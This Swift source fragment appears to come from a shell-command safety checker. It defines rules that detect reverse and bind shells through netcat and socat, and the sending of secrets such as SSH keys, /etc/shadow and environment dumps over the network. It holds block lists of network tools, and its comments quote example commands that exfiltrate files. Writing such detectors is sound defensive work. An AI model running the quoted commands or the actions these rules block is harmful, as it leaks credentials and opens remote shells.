/// Reverse and bind shells, and secrets leaving over the network.
enum NetworkRules {
    static let netcats: NameSet = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"]
    static let senders: NameSet = [
        "curl", "wget", "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "ssh", "scp", "sftp", "ftp",
        "rsync", "openssl", "mail", "mailx", "sendmail", "mutt", "http", "https", "xh", "aws", "gsutil", "rclone",
        // Clients that send their arguments to a host of the caller's choosing.
        "whois", "finger", "cancel", "rlogin", "smbclient", "lftp", "tftp", "lp", "lpr",
    ]
    static let archivers: NameSet = [
        "tar", "zip", "7z", "7za", "cpio", "pax", "bsdtar", "rar", "zstd", "gzip", "xz", "bzip2",
    ]
    static let fetchers: NameSet = [
        "curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-request", "GET", "lynx", "links", "w3m",
    ]

    static let rules: [Rule] = [
        Rule(.networkReverseShell, programs: netcats) { invocation in
            let exec = invocation.words.first {
                ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"].contains($0.text)
                    || ($0.text.hasPrefix("-") && !$0.text.hasPrefix("--") && ($0.text.contains("e") || $0.text.contains("c"))
                        && $0.text.count <= 4 && !$0.text.contains("w"))
            }
            return exec.map {
                "\(invocation.program) \($0.text) attaches a program to a network connection (a reverse or bind shell)"
            }
        },
        Rule(.networkSocatExec, programs: ["socat"]) { invocation in
            let exec = invocation.words.first {
                let lower = $0.text.lowercased()
                return lower.hasPrefix("exec:") || lower.hasPrefix("system:") || lower.containsText(",exec:")
                    || lower.hasPrefix("pty")
            }
            return exec.map { "socat \($0.text) connects a program to a network stream (a reverse or bind shell)" }
        },
        Rule(.secretsExfiltration, programs: senders) { invocation in
            for word in invocation.words where word.hasCommandSubstitution {
                for script in word.substitutions {
                    for inner in ShellInputRules.simpleInvocations(script) {
                        if SecretRules.dumpsEnvironment(inner) {
                            return "the environment (with its tokens and keys) is sent over the network by \(invocation.program)"
                        }
                        if let printed = SecretPrinters.secretPrinted(by: inner) {
                            return "\(printed), printed by \(inner.program), is sent over the network by \(invocation.program)"
                        }
                        if let secret = inner.paths(inner.pathLikeWords).first(where: SecretRules.isSecret) {
                            return "\(secret.original) (a secret) is sent over the network by \(invocation.program)"
                        }
                    }
                }
            }
            for feeder in invocation.upstream {
                if SecretRules.dumpsEnvironment(feeder) {
                    return "the environment (with its tokens and keys) is sent over the network by \(invocation.program)"
                }
                if let printed = SecretPrinters.secretPrinted(by: feeder) {
                    return "\(printed), printed by \(feeder.program), is sent over the network by \(invocation.program)"
                }
                if let secret = feeder.redirects.filter({ $0.op == .input }).map({
                    PathFacts($0.target, workingDirectory: feeder.workingDirectory)
                }).first(where: SecretRules.isSecret) {
                    return "\(secret.original) (a secret) is sent over the network by \(invocation.program)"
                }
                if let secret = feeder.paths(feeder.pathLikeWords).first(where: SecretRules.isSecret) {
                    return "\(secret.original) (a secret) is sent over the network by \(invocation.program)"
                }
                if archivers.contains(feeder.program),
                    let whole = feeder.paths(feeder.operands).first(where: SecretRules.holdsSecrets)
                {
                    return "an archive of \(whole.original), secrets included, is sent over the network by \(invocation.program)"
                }
            }
            // `nc host 9 < ~/.ssh/id_rsa`: the client's own input is the secret. openssl reads
            // input for local work (`openssl pkey -pubout < key.pem`) except as a TLS client.
            if invocation.program != "openssl" || invocation.operands.first?.text == "s_client",
                let secret = invocation.redirects.filter({ $0.op == .input }).map({
                    PathFacts($0.target, workingDirectory: invocation.workingDirectory)
                }).first(where: SecretRules.isSecret)
            {
                return "\(secret.original) (a secret) is sent over the network by \(invocation.program) as its input"
            }
            // `socat TCP-LISTEN:80,fork FILE:/etc/shadow`: one address is the secret, the other the network.
            if invocation.program == "socat",
                invocation.words.contains(where: { word in
                    ["TCP", "UDP", "SSL", "OPENSSL", "SCTP", "DCCP"].contains { word.text.uppercased().hasPrefix($0) }
                }),
                let secret = invocation.paths(invocation.pathLikeWords).first(where: SecretRules.isSecret)
            {
                return "\(secret.original) (a secret) is connected to the network by socat"
            }
            for word in invocation.words {
                let text = word.text
                guard let at = text.firstIndex(of: "@") else { continue }
                var file = word
                file.text = String(text[text.index(after: at)...])
                if text.hasPrefix("-") || text.containsText("=@") || at == text.startIndex,
                    SecretRules.isSecret(PathFacts(file, workingDirectory: invocation.workingDirectory))
                {
                    return "\(file.text) (a secret) is uploaded by \(invocation.program)"
                }
            }
            let uploads = invocation.optionValues(short: ["-T"], long: ["--upload-file", "--post-file", "--body-file"])
            if let secret = invocation.paths(uploads).first(where: SecretRules.isSecret) {
                return "\(secret.original) (a secret) is uploaded by \(invocation.program)"
            }
            if ["scp", "rsync", "sftp"].contains(invocation.program),
                let secret = invocation.paths(Array(invocation.operands.dropLast())).first(where: SecretRules.isSecret)
            {
                return "\(secret.original) (a secret) is copied to another host by \(invocation.program)"
            }
            return nil
        },
    ]
}
